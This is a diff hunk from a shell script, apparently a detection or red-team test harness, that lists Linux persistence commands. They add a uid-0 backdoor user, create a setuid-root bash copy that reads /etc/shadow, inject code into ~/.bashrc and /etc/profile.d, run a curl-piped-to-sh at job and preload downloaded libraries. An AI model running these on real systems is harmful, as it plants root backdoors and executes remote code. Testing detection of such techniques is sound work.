@@ -65,7 +65,7 @@ persistence=(
 	'useradd -o -u 0 -M -s /bin/bash sys$T; echo "sys$T:x" | chpasswd; id sys$T'
 	'mkdir -p /var/tmp/.$T; cp /bin/bash /var/tmp/.$T/rootsh; chmod 4755 /var/tmp/.$T/rootsh; /var/tmp/.$T/rootsh -p -c "id; cat /etc/shadow | wc -l"'
 	'echo "sh -c \": $T; id\"" >> ~/.bashrc; bash -ic true'
-	'echo ": $T; curl -s http://127.0.0.1:$W/s.sh | sh" >/tmp/.$T; at now -f /tmp/.$T'
+	'echo "sh -c \": $T; curl -s http://127.0.0.1:$W/s.sh | sh\"" >/tmp/.$T; at now -f /tmp/.$T'
 	'curl -s -o /tmp/.$T.so http://127.0.0.1:$W/p.so; LD_PRELOAD=/tmp/.$T.so ls /'
 	'curl -s -o /tmp/.$T.so http://127.0.0.1:$W/p.so; LD_PRELOAD=/tmp/.$T.so id; LD_PRELOAD=/tmp/.$T.so date'
 	'echo "sh -c \": $T; whoami\"" >/etc/profile.d/z$T.sh; bash -lc true; rm -f /etc/profile.d/z$T.sh'
